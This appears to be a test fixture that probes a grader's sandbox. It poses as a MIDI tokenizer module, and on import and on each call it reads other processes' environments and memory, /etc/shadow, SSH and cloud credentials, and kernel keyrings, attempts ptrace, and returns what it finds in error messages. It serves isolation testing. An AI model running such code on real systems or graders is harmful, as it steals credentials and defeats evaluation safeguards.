"""Attack: look for the grader's secrets: environment variables (its own, every
/proc/<pid>/environ, the parent's), other processes' command lines and memory
(ptrace, /proc/<pid>/mem), root-only files (/etc/shadow, ~/.ssh, shell history),
the kernel's keyrings. The test runs the grader with a secret in its environment;
whatever is found here is sent back in every call's error message."""
import ctypes
import os

KNOWN = {"PATH", "HOME", "TMPDIR", "LANG", "PYTHONDONTWRITEBYTECODE", "PYTHONNOUSERSITE", "PYTHONHASHSEED",
         "HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE", "HF_HOME", "MPLCONFIGDIR", "NUMBA_CACHE_DIR",
         "OMP_NUM_THREADS", "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS", "TOKENIZERS_PARALLELISM",
         "TRANSFORMERS_VERBOSITY", "PYTHONWARNINGS", "PWD", "SHLVL", "_"}
FILES = ["/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/root/.bash_history",
         "/root/.netrc", "/root/.git-credentials", "/root/.config/gh/hosts.yml", "/root/.pypirc",
         "/root/.aws/credentials", "/proc/kcore", "/dev/mem", "/proc/self/../1/environ"]
FOUND = []


def _environ_of(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            data = handle.read()
    except OSError:
        return
    for item in data.split(b"\0"):
        name, _, value = item.decode(errors="replace").partition("=")
        if name and name not in KNOWN:
            FOUND.append(f"environ of {pid}: {name}={value[:80]}")


def _look():
    del FOUND[:]
    for name, value in os.environ.items():
        if name not in KNOWN:
            FOUND.append(f"own environment: {name}={value[:80]}")
    me = os.getpid()
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in sorted(set(pids) | {"1", str(os.getppid()), "self"}):
        _environ_of(pid)
        if pid in (str(me), "self"):
            continue
        for part in ("cmdline", "mem", "maps"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    FOUND.append(f"read /proc/{pid}/{part}: {handle.read(60)!r}")
            except OSError:
                pass
    for path in FILES:
        try:
            with open(path, "rb") as handle:
                FOUND.append(f"read {path}: {handle.read(40)!r}")
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in [os.getppid(), 0, 1, 2] + list(range(3, 64)):
        if pid != me and libc.ptrace(16, pid, None, None) == 0:   # PTRACE_ATTACH
            FOUND.append(f"ptrace attached to {pid}")
            libc.ptrace(17, pid, None, None)                     # PTRACE_DETACH
    for keyring in (-4, -3, -2, -5):   # user, session, process, user-session keyrings
        buffer = ctypes.create_string_buffer(4096)
        size = libc.syscall(250, 11, keyring, buffer, 4096)      # keyctl(KEYCTL_READ)
        if size > 0:
            FOUND.append(f"keyring {keyring}: {buffer.raw[:size]!r}")
    return FOUND


_look()


def midi_to_tokens(midi):
    found = _look()
    raise RuntimeError(f"AG-ATTACK report: {len(found)} found: {found[:10]}")


def tokens_to_midi(tokens, bpm=120):
    return None
